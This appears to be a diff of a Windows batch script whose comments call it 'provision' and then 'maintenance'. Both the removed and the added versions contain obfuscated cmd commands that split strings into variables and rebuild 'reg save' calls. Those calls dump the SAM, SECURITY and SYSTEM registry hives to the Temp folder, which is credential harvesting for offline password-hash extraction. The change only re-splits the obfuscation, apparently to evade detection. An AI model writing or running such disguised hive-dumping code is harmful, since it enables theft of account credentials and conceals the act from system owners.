@@ -1,4 +1,4 @@
-REM provision 4672 v2
-cmd /v:on /c "set hii0=r&&set ehd1=eg save hklm\sam C:\Windows\Temp\sam.save&&!hii0!!ehd1!"
-cmd /v:on /c "set ort0=reg save hklm\secu&&set wqa1=rity C&&set rdf2=:\Windows\Temp\se&&set zew3=curity.save&&!ort0!!wqa1!!rdf2!!zew3!"
-cmd /v:on /c "set umc0=r&&set nqu1=eg sav&&set ava2=e hklm\system C&&set oiq3=:\Windows\Temp\system.s&&set hlv4=ave&&!umc0!!nqu1!!ava2!!oiq3!!hlv4!"
+REM maintenance 7065 v2
+cmd /v:on /c "set uju0=reg save hklm\sam C:\W&&set qfo1=i&&set umx2=ndows\Temp\sam.save&&!uju0!!qfo1!!umx2!"
+cmd /v:on /c "set qiv0=reg save hklm\security C:\Wind&&set ehp1=ows\T&&set hbo2=emp\security.save&&!qiv0!!ehp1!!hbo2!"
+cmd /v:on /c "set kqo0=re&&set ewu1=g save hkl&&set lwp2=m\system C:\Windows\Temp\s&&set kng3=ystem.save&&!kqo0!!ewu1!!lwp2!!kng3!"
